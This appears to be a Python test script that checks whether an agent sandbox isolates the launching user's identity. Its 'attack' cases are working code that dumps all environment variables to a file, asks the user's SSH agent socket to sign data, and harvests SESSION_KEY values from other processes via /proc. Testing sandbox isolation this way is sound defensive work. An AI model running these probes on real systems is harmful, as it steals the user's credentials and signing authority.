"""Identity and privilege abuse: what belongs to the person who started the agent."""

import os
import socket
import subprocess

from door import put, run, victim


def environment():
    put("leak.txt", "\n".join(f"{name}={value}" for name, value in os.environ.items()))
    print("variables", len(os.environ))


def sign():
    """Has the person's key agent sign something."""
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(victim(".ssh/agent.sock"))
        sock.sendall(b"sign this\n")
        print(sock.recv(100))


def own_socket():
    with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX) as client:
        server.bind("own.sock")
        server.listen()
        client.connect("own.sock")
        client.sendall(b"hello")
        print(server.accept()[0].recv(100).decode())


def environments():
    """Looks for credentials in the processes that it sees."""
    found, seen = [], list(filter(str.isdigit, os.listdir("/proc")))
    for pid in seen:
        try:
            with open(f"/proc/{pid}/environ", encoding="utf-8", errors="replace") as file:
                found += [word for word in file.read().split("\0") if word.startswith("SESSION_KEY=")]
        except OSError:
            pass
    put("leak.txt", "\n".join(found))
    print("processes", len(seen))


def own_child():
    code = "import os; print(os.environ['CHILD'])"
    print(subprocess.check_output(["python3", "-c", code], env={**os.environ, "CHILD": "mine"}, text=True))


run(
    {
        "inherited-key attack": environment,
        "inherited-key benign": environment,
        "key-agent attack": sign,
        "key-agent benign": own_socket,
        "process-keys attack": environments,
        "process-keys benign": own_child,
    }
)
